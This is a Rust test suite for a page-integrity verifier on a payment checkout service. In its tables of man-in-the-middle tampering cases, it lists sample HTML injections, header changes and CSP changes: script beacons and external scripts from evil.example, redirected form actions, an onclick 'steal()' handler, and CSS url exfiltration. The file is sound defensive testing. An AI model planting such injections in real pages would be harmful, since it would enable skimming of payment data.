//! `vezne page-verify` against the real service, and through somebody in the
//! middle who changes one thing at a time.

use crate::harness::{Session, Tamper, TestApp};
use serde_json::{Value, json};
use std::path::Path;
use std::process::{Command, Output};

/// Runs the command as a monitor would.
fn verify(url: &str, ca: &Path) -> Output {
    let command = Command::new(env!("CARGO_BIN_EXE_vezne"))
        .args(["page-verify", url, "--ca", ca.to_str().unwrap(), "--json"])
        .env_clear()
        .output();
    command.unwrap()
}

fn differences(output: &Output) -> Vec<String> {
    let said: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {output:?}"));
    let differences = said["differences"].as_array().unwrap();
    assert_eq!(output.status.code(), Some(i32::from(!differences.is_empty())), "{output:?}");
    differences.iter().map(|it| it.as_str().unwrap().to_owned()).collect()
}

async fn differences_of(url: String, ca: &Path) -> Vec<String> {
    let ca = ca.to_owned();
    let output = tokio::task::spawn_blocking(move || verify(&url, &ca)).await.unwrap();
    differences(&output)
}

fn ca(app: &TestApp) -> std::path::PathBuf {
    app.config().provider.test.as_ref().unwrap().upstream.ca_file.clone().unwrap()
}

async fn open_session(app: &TestApp) -> Session {
    app.create_session(json!({})).await
}

#[tokio::test]
async fn pages_of_the_real_service_pass() {
    use vezne::merchant::{Font, Theme, ThemeChange};
    let app = TestApp::start().await;
    let (open, done, gone) = (open_session(&app).await, open_session(&app).await, open_session(&app).await);
    app.submit_card(&done, crate::harness::Card::visa()).await.expect(303);
    app.cancel(&gone).await.expect(200);
    let paths = [
        open.path.clone(),
        format!("{}/done", done.path),
        gone.path.clone(),
        "/c/nothing".to_owned(),
        "/".to_owned(),
        "/problems/not-found".to_owned(),
        "/openapi.json".to_owned(),
    ];
    for theme in [
        ThemeChange::default(),
        ThemeChange { accent: Some("#00703c".into()), font: Some(Font::Mono), ..ThemeChange::default() },
    ] {
        let mut merchant = app.admin.find(&app.shop.id).await.unwrap();
        merchant.theme = Theme::PLAIN.changed(theme).unwrap();
        app.admin.save(&merchant).await.unwrap();
        for path in &paths {
            assert_eq!(
                differences_of(format!("{}{path}", app.origin()), &ca(&app)).await,
                Vec::<String>::new(),
                "{path}"
            );
        }
    }
}

/// What somebody in the middle does to the document, and what must be said of it.
const DOCUMENT: &[(&str, &str, &str)] = &[
    ("'use strict';", "'use  strict';", "script form.js: differs"),
    ("</main>", "</main><script>new Image().src='//evil.example'</script>", "script: one that is not in the inventory"),
    (
        "</main>",
        "</main><script src=\"https://evil.example/x.js\"></script>",
        "attribute src of <script>: unknown (https://evil.example)",
    ),
    (
        "</main>",
        "</main><iframe src=\"https://evil.example/form\"></iframe>",
        "element <iframe>: no page of ours has one (https://evil.example)",
    ),
    (
        "</main>",
        "</main><img src=\"https://evil.example/p.png\">",
        "attribute src of <img>: leads elsewhere (https://evil.example)",
    ),
    (
        "<style>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><style>",
        "element <link>: not the page's icon (https://evil.example)",
    ),
    (
        "<style>",
        "<base href=\"https://evil.example/\"><style>",
        "element <base>: no page of ours has one (https://evil.example)",
    ),
    (
        "<style>",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\"><style>",
        "attribute content of <meta>: leads elsewhere",
    ),
    (
        "<button class=\"button\"",
        "<button onclick=\"steal()\" class=\"button\"",
        "attribute onclick of <button>: an event handler",
    ),
    (
        "<button class=\"button\"",
        "<button formaction=\"https://evil.example/\" class=\"button\"",
        "attribute formaction of <button>: unknown (https://evil.example)",
    ),
    (
        "action=\"/c/",
        "action=\"https://evil.example/c/",
        "attribute action of <form>: leads elsewhere (https://evil.example)",
    ),
    (
        "action=\"/c/",
        "action=\"//evil.example/c/",
        "attribute action of <form>: leads elsewhere (https://evil.example)",
    ),
    (
        "<main>",
        "<main><a href=\"https://evil.example/pay\">Pay here</a>",
        "attribute href of <a>: leads elsewhere (https://evil.example)",
    ),
    ("<main>", "<main><p style=\"display:none\">x</p>", "attribute style of <p>: unknown"),
    ("<main>", "<main><!-- x -->", "document: there is markup that is no element"),
    ("<main>", "<main><svg><animate href=\"#x\"/></svg>", "element <animate>: no page of ours has one"),
    ("margin: 0;", "margin: 1px;", "style page.css: differs"),
    ("</style>", "</style><style>input{background:url(//evil.example)}</style>", "style theme: not of a theme's form"),
    ("\"ranges\":[[", "\"ranges\":[[\"1\",\"1\",\"x\"],[", "data: not in the inventory"),
    ("<!doctype html>", "<!DOCTYPE html>", "document: it does not begin with <!doctype html>"),
];

/// What somebody in the middle does to a header: its name, its new value, and what must be said of it.
const HEADERS: &[(&str, Option<&str>, &str)] = &[
    ("content-security-policy", None, "header content-security-policy: missing"),
    ("permissions-policy", None, "header permissions-policy: missing"),
    ("permissions-policy", Some("camera=(self)"), "header permissions-policy: is \"camera=(self)\""),
    ("x-content-type-options", None, "header x-content-type-options: missing"),
    ("referrer-policy", Some("unsafe-url"), "header referrer-policy: is \"unsafe-url\""),
    ("cache-control", Some("public"), "header cache-control: is \"public\""),
    ("cross-origin-opener-policy", Some("unsafe-none"), "header cross-origin-opener-policy: is"),
    ("cross-origin-resource-policy", None, "header cross-origin-resource-policy: missing"),
    ("reporting-endpoints", Some("csp=\"https://evil.example/\""), "header reporting-endpoints: is"),
    ("content-type", Some("text/html"), "header content-type: is"),
    ("set-cookie", Some("id=1"), "header set-cookie: this program never sends it here"),
    ("link", Some("<https://evil.example/x.js>; rel=preload; as=script"), "header link: this program never"),
    ("access-control-allow-origin", Some("*"), "header access-control-allow-origin: this program never"),
    ("refresh", Some("0; url=https://evil.example/"), "header refresh: this program never"),
];

/// What somebody in the middle does to the policy.
const POLICY: &[(&str, &str, &str)] = &[
    ("script-src ", "script-src 'unsafe-inline' ", "policy: script-src has 'unsafe-inline', which is not ours"),
    (
        "script-src ",
        "script-src https://evil.example ",
        "policy: script-src has https://evil.example, which is not ours",
    ),
    ("connect-src 'self'", "connect-src *", "policy: connect-src has *, which is not ours"),
    ("form-action 'self'", "form-action 'self' https://evil.example", "policy: form-action has https://evil.example"),
    ("base-uri 'none'; ", "", "policy: base-uri is missing"),
    ("frame-ancestors 'none'; ", "", "policy: frame-ancestors is missing"),
    ("frame-ancestors 'none'", "frame-ancestors *", "policy: frame-ancestors has *, which is not ours"),
    ("require-trusted-types-for 'script'; ", "", "policy: require-trusted-types-for is missing"),
    ("report-uri /csp", "report-uri https://evil.example/", "policy: report-uri has https://evil.example/"),
    ("img-src data:", "img-src data: https:; media-src *", "policy: has a directive media-src, which is not ours"),
];

#[tokio::test]
async fn every_single_change_on_the_way_is_found_and_named() {
    let app = TestApp::start().await;
    let session = open_session(&app).await;
    let middle = Tamper::start(&app);
    let url = format!("{}{}", middle.origin(), session.path);
    assert_eq!(differences_of(url.clone(), &middle.certificate).await, Vec::<String>::new(), "unchanged it passes");
    let check = async |what: &str, expected: &str| {
        let found = differences_of(url.clone(), &middle.certificate).await;
        assert!(found.iter().any(|it| it.starts_with(expected)), "{what}: wanted {expected:?}, found {found:?}");
        assert!(found.iter().all(|it| !it.contains(&session.path[3..])), "the session's secret is not printed");
    };
    for (from, to, expected) in DOCUMENT {
        middle.changes_body(from, to);
        check(to, expected).await;
    }
    for (name, value, expected) in HEADERS {
        middle.changes_header(name, *value);
        check(name, expected).await;
    }
    for (from, to, expected) in POLICY {
        middle.changes_policy(from, to);
        check(to, expected).await;
    }
}

#[tokio::test]
async fn what_cannot_be_looked_at_is_no_pass() {
    let app = TestApp::start().await;
    let done = open_session(&app).await;
    app.submit_card(&done, crate::harness::Card::visa()).await.expect(303);
    let found = differences_of(format!("{}{}", app.origin(), done.path), &ca(&app)).await;
    assert!(found[0].starts_with("status: 303"), "{found:?}");
    let code = |url: &str, ca: &Path| verify(url, ca).status.code();
    let (origin, ca) = (app.origin(), ca(&app));
    let stranger = app.merchant.certificate.clone();
    tokio::task::spawn_blocking(move || {
        assert_eq!(code(&origin, &stranger), Some(4), "a certificate that is not trusted");
        assert_eq!(code("https://localhost:1/", &ca), Some(4));
        assert_eq!(code("http://localhost:1/", &ca), Some(2));
        assert_eq!(code(&origin, Path::new("/nonexistent")), Some(2));
    })
    .await
    .unwrap();
}

#[tokio::test]
async fn the_manifest_is_what_a_served_page_carries() {
    let app = TestApp::start().await;
    let page = app.get(&open_session(&app).await.path).await.expect(200);
    let output = Command::new(env!("CARGO_BIN_EXE_vezne"))
        .args(["page-manifest", "--json", "--authorised-by", "A. Yetkili, 2026-11-22"])
        .output()
        .unwrap();
    let manifest: Value = serde_json::from_slice(&output.stdout).unwrap();
    let items = manifest["items"].as_array().unwrap();
    for item in items {
        for field in ["name", "kind", "purpose", "version"] {
            assert!(item[field].as_str().is_some_and(|text| !text.is_empty()), "{item}");
        }
        assert_eq!(item["authorisedBy"], "A. Yetkili, 2026-11-22");
    }
    let policy = page.header("content-security-policy");
    let allowed: Vec<_> = policy.split('\'').filter(|word| word.starts_with("sha256-")).collect();
    assert_eq!(allowed.len(), 2, "{policy}");
    for hash in allowed {
        assert!(items.iter().any(|item| item["csp"] == hash), "{hash} is not in the manifest");
    }
    let table = Command::new(env!("CARGO_BIN_EXE_vezne")).arg("page-manifest").output().unwrap();
    let table = String::from_utf8(table.stdout).unwrap();
    for item in items {
        assert!(table.contains(item["name"].as_str().unwrap()) && table.contains(item["purpose"].as_str().unwrap()));
        assert!(item["sha384"].is_null() || table.contains(item["sha384"].as_str().unwrap()));
    }
}
